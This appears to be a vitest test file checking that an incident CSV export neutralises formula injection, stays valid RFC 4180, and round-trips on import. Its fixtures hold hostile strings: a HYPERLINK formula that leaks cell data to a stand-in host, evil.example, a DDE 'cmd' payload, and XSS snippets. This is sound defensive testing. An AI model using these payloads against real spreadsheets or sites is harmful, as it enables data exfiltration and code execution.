// Hostile incident text in the CSV export: an incident whose target and summary hold
// spreadsheet formulas, markup and quotes is exported with every such cell neutralised (a
// leading '), the file stays valid RFC 4180 with the same number of fields on every line,
// and importing it gives back the text exactly as stored.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_FILTERS } from "../incident-model.ts";
import { parseCsv } from "../csv-parse.ts";
import { readImportFile } from "../records/import-rows.ts";
import { FIXTURE } from "../testing/fixture.ts";
import { backends, freshDatabase, type TestDatabase } from "../testing/test-db.ts";
import { INCIDENT_CSV_HEADER, incidentCsvStream } from "./incident-export.ts";
import { writeDataset } from "../write/write-dataset.ts";

const HOSTILE_TARGET = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const HOSTILE_SUMMARY = `+cmd|' /C calc'!A0 then @SUM(1+1) and -2+3; <script>alert("xss")</script> "quoted", with comma`;
const base = FIXTURE.incidents.find((i) => i.id === "2022-05-01-fixture-karachi-shooting")!;
const hostile = [
  { ...base, id: "2025-03-01-fixture-injection-a", date: "2025-03-01", target: HOSTILE_TARGET, summary: HOSTILE_SUMMARY },
  { ...base, id: "2025-03-02-fixture-injection-b", date: "2025-03-02", target: "@SUM(A1:A9)", summary: "-1+1 <img src=x onerror=alert(1)>", city: "=cmd" },
  { ...base, id: "2025-03-03-fixture-injection-c", date: "2025-03-03", target: "'=already has a quote", summary: "\tTabbed start" },
];

describe.each(backends())("formula injection in the CSV export on %s", (backend) => {
  let db: TestDatabase;
  let records: string[][];
  beforeAll(async () => {
    db = await freshDatabase(backend);
    await writeDataset(db.prisma, { ...FIXTURE, incidents: [...FIXTURE.incidents, ...hostile] });
    const csv = await new Response(incidentCsvStream({ ...DEFAULT_FILTERS, links: "all" }, { prisma: db.prisma })).text();
    records = parseCsv(csv).map((r) => r.fields);
  });
  afterAll(async () => { await db?.close(); });

  it("keeps the file RFC 4180: one header, the same field count on every line", () => {
    expect(records[0]).toEqual([...INCIDENT_CSV_HEADER]);
    expect(records.every((r) => r.length === INCIDENT_CSV_HEADER.length)).toBe(true);
    expect(records).toHaveLength(FIXTURE.incidents.length + hostile.length + 1);
  });

  it("neutralises every cell a spreadsheet would run", () => {
    for (const r of records.slice(1)) for (const cell of r) expect(cell, r[0]).not.toMatch(/^[=+\-@\t\r]/);
    const col = (id: string, name: (typeof INCIDENT_CSV_HEADER)[number]) => records.find((r) => r[0] === id)![INCIDENT_CSV_HEADER.indexOf(name)];
    expect(col("2025-03-01-fixture-injection-a", "target")).toBe(`'${HOSTILE_TARGET}`);
    expect(col("2025-03-01-fixture-injection-a", "summary")).toBe(`'${HOSTILE_SUMMARY}`);
    expect(col("2025-03-02-fixture-injection-b", "target")).toBe("'@SUM(A1:A9)");
    expect(col("2025-03-02-fixture-injection-b", "summary")).toBe("'-1+1 <img src=x onerror=alert(1)>");
    expect(col("2025-03-02-fixture-injection-b", "city")).toBe("'=cmd");
    expect(col("2025-03-03-fixture-injection-c", "target")).toBe("''=already has a quote");
  });

  it("reads back as the stored text when imported", () => {
    const header = INCIDENT_CSV_HEADER.join(",");
    const lines = records.filter((r) => r[0].includes("injection-a") || r[0].includes("injection-b"));
    const file = [header, ...lines.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(","))].join("\r\n");
    const rows = readImportFile(new TextEncoder().encode(file), "csv");
    expect(rows.map((r) => [r.target, r.summary, r.city])).toEqual([
      ["@SUM(A1:A9)", "-1+1 <img src=x onerror=alert(1)>", "=cmd"],
      [HOSTILE_TARGET, HOSTILE_SUMMARY, "Karachi"],
    ]);
  });
});
